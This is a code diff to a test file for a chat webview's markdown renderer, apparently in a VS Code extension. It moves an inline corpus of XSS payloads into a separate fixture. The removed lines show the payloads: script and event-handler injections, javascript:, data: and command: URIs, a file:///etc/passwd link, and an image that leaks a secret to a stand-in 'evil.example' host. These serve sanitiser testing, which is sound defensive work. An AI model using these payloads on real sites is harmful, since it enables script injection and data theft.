@@ -1,3 +1,4 @@
+import { XSS_CORPUS } from '../fixtures/xssCorpus';
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { markdownToTree, fenceLanguage } from '../../src/webview/chat/markdown/toTree';
@@ -38,40 +39,7 @@ const links = (tree: MdNode[]) => walk(tree).filter((n) => n.kind === 'link').ma
 const images = (tree: MdNode[]) => walk(tree).filter((n): n is Extract<MdNode, { kind: 'image' }> => n.kind === 'image');
 const codeBlocks = (tree: MdNode[]) => walk(tree).filter((n): n is Extract<MdNode, { kind: 'codeBlock' }> => n.kind === 'codeBlock');
 
-const XSS_CORPUS = [
-  '<img src=x onerror=alert(1)>',
-  '<script>alert(1)</script>',
-  '<svg onload=alert(1)><circle/></svg>',
-  '<svg><script>alert(1)</script></svg>',
-  '<iframe src="https://evil.example"></iframe>',
-  '<a href="javascript:alert(1)">x</a>',
-  '[x](javascript:alert(1))',
-  '[x](JaVaScRiPt:alert(1))',
-  '[x](&#106;avascript:alert(1))',
-  '[x](java\tscript:alert(1))',
-  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
-  '[x](vbscript:msgbox(1))',
-  '[x](file:///etc/passwd)',
-  '[x](command:workbench.action.terminal.new)',
-  '[x](vscode://vscode.git/clone?url=x)',
-  '<javascript:alert(1)>',
-  '<command:workbench.action.reloadWindow>',
-  '![x](javascript:alert(1))',
-  '![x](https://evil.example/leak?secret=1)',
-  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
-  '&lt;script&gt;alert(1)&lt;/script&gt;',
-  '&#60;img src=x onerror=alert(1)&#62;',
-  '<style>body{display:none}</style>',
-  '<div style="position:fixed">overlay</div>',
-  '<form action="https://evil.example"><input name=x></form>',
-  '```html\n<script>alert(1)</script>\n```',
-  '```"><img src=x onerror=alert(1)>\ncode\n```',
-  '| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script> | [x](javascript:1) |',
-  '> <b onmouseover=alert(1)>quote</b>',
-  '- [x](javascript:alert(1))\n- <img onerror=alert(1)>',
-  '[ref]\n\n[ref]: javascript:alert(1)',
-  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
-];
+
 
 test('the XSS corpus yields only allow-listed nodes, http(s) links and unloaded images', () => {
   for (const input of XSS_CORPUS) {
